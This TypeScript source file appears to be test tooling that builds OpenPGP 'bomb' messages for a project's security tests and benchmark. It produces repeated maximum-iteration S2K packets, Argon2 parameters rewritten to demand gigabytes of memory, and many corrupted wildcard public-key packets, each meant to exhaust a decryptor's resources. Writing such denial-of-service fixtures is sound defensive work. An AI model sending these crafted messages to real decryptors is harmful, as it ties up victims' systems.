/**
 * Builders for "bomb" messages: small OpenPGP messages whose session-key packets ask a decryptor for
 * far more work than any real message needs (issue: password and key-packet bombs). Each is built
 * with OpenPGP.js packet classes from a real encryption, then its ESK packets are copied or their
 * S2K parameters rewritten; the encrypted data itself stays a genuine SEIPD packet.
 *
 * Used by test/security/bombs.test.ts and bench/bombs.ts.
 */
import * as openpgp from 'openpgp';

/** The plaintext every bomb carries (when it can be decrypted at all). */
export const bombPlaintext = 'not a bomb, only the payload\n';

interface Encrypted {
  /** The one ESK packet OpenPGP.js made, parsed. */
  esk: openpgp.AnyPacket;
  /** Everything after it, as written: the encrypted data packet. */
  data: Uint8Array;
}

/** Encrypts the payload with OpenPGP.js, which writes one ESK packet followed by the encrypted data. */
async function encryptOnce(options: { passwords?: string[]; encryptionKeys?: openpgp.PublicKey[]; wildcard?: boolean; config?: Partial<openpgp.Config> }): Promise<Encrypted> {
  const message = await openpgp.createMessage({ binary: new TextEncoder().encode(bombPlaintext) });
  const binary = (await openpgp.encrypt({ message, format: 'binary', ...options })) as Uint8Array;
  const [esk] = (await openpgp.readMessage({ binaryMessage: binary })).packets;
  if (esk === undefined) throw new Error('OpenPGP.js wrote no packet');
  return { esk, data: binary.subarray(packetLength(binary)) };
}

/** The length of the new-format packet (RFC 9580 §4.2.1) at the start of `bytes`, header included. */
function packetLength(bytes: Uint8Array): number {
  const first = bytes[1] ?? 0;
  if ((bytes[0] ?? 0) < 0xc0) throw new Error('expected a new-format packet header');
  if (first < 192) return 2 + first;
  if (first < 224) return 3 + ((first - 192) << 8) + (bytes[2] ?? 0) + 192;
  if (first === 255) return 6 + ((bytes[2] ?? 0) * 2 ** 24 + (((bytes[3] ?? 0) << 16) | ((bytes[4] ?? 0) << 8) | (bytes[5] ?? 0)));
  throw new Error('unexpected partial length on an ESK packet');
}

/** `count` ESK packets (the body `bodyOf(i)` for the i-th), framed, then the encrypted data. */
function withRepeatedEsk(tag: number, bodyOf: (index: number) => Uint8Array, count: number, data: Uint8Array): Uint8Array {
  return concat([...Array.from({ length: count }, (_, index) => framePacket(tag, bodyOf(index))), data]);
}

function concat(parts: Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((n, part) => n + part.length, 0));
  let offset = 0;
  for (const part of parts) {
    out.set(part, offset);
    offset += part.length;
  }
  return out;
}

/** A whole packet (new-format header, RFC 9580 §4.2.1) around a packet body. */
function framePacket(tag: number, body: Uint8Array): Uint8Array {
  const length = body.length;
  const header =
    length < 192
      ? [0xc0 | tag, length]
      : length < 8384
        ? [0xc0 | tag, ((length - 192) >> 8) + 192, (length - 192) & 0xff]
        : [0xc0 | tag, 0xff, (length >>> 24) & 0xff, (length >>> 16) & 0xff, (length >>> 8) & 0xff, length & 0xff];
  return concat([new Uint8Array(header), body]);
}

/**
 * `count` copies of a version 4 SKESK (RFC 9580 §5.3) with the iterated and salted S2K at its maximum
 * count (coded 255: 65,011,712 octets hashed, §3.7.1.3), each encrypting the real session key under
 * `password`, before a SEIPDv1 packet. The attack as reported: 100 copies in 1.6 KB.
 */
export async function iteratedS2kBomb(options: { count: number; password: string }): Promise<Uint8Array> {
  const { esk, data } = await encryptOnce({
    passwords: [options.password],
    config: { s2kType: openpgp.enums.s2k.iterated, s2kIterationCountByte: 255, aeadProtect: false },
  });
  return withRepeatedEsk(openpgp.enums.packet.symEncryptedSessionKey, () => (esk as openpgp.SymEncryptedSessionKeyPacket).write(), options.count, data);
}

/** The Argon2 S2K fields (RFC 9580 §3.7.1.4) of OpenPGP.js's S2K object; its typings keep them private. */
interface Argon2Fields {
  t: number;
  p: number;
  encodedM: number;
}

/**
 * A version 6 SKESK (RFC 9580 §5.3) whose Argon2 S2K asks for `passes` passes over 2^`memoryExponent`
 * KiB, before a SEIPDv2 packet. Built with cheap parameters, then rewritten: the message can never be
 * decrypted (the key derived with the new parameters differs), which does not matter to a decryptor
 * that refuses to run it. The attack as reported: t = 255, m = 2^21 KiB (2 GiB), one packet.
 */
export async function argon2Bomb(options: { passes: number; memoryExponent: number; parallelism?: number; count?: number; password: string }): Promise<Uint8Array> {
  const { esk, data } = await encryptOnce({
    passwords: [options.password],
    config: { s2kType: openpgp.enums.s2k.argon2, s2kArgon2Params: { passes: 1, parallelism: 1, memoryExponent: 10 }, aeadProtect: true },
  });
  const skesk = esk as openpgp.SymEncryptedSessionKeyPacket;
  const s2k = (skesk as unknown as { s2k: Argon2Fields }).s2k;
  s2k.t = options.passes;
  s2k.p = options.parallelism ?? 4;
  s2k.encodedM = options.memoryExponent;
  return withRepeatedEsk(openpgp.enums.packet.symEncryptedSessionKey, () => skesk.write(), options.count ?? 1, data);
}

/**
 * `count` PKESKs (RFC 9580 §5.1) with the wildcard key ID (all zeros: "try every key you have"),
 * each a copy of the real session key encrypted to `recipient`, before a SEIPDv1 packet. With
 * `corrupt`, every copy's encrypted value is altered (in the middle of the public-key ciphertext), so
 * each decryption attempt does the full private-key operation and then fails. The attack as
 * reported: 1,000 wildcard RSA PKESKs.
 */
export async function wildcardPkeskBomb(options: { count: number; recipient: openpgp.PublicKey; corrupt?: boolean }): Promise<Uint8Array> {
  const { esk, data } = await encryptOnce({ encryptionKeys: [options.recipient], wildcard: true, config: { aeadProtect: false } });
  const body = (esk as openpgp.PublicKeyEncryptedSessionKeyPacket).write();
  const bodyOf = (index: number): Uint8Array => {
    if (!options.corrupt) return body;
    // The last field is the algorithm-specific ciphertext; changing two octets well inside it keeps
    // the packet well-formed (same MPI length) but makes the decrypted value garbage, and differently
    // so in every copy (no two packets alike, so none can be skipped as a duplicate).
    const copy = body.slice();
    const at = copy.length - 40;
    copy[at] = (copy[at] ?? 0) ^ 0x5a;
    copy[at + 1] = (copy[at + 1] ?? 0) ^ (index & 0xff);
    copy[at + 2] = (copy[at + 2] ?? 0) ^ (index >> 8);
    return copy;
  };
  return withRepeatedEsk(openpgp.enums.packet.publicKeyEncryptedSessionKey, bodyOf, options.count, data);
}
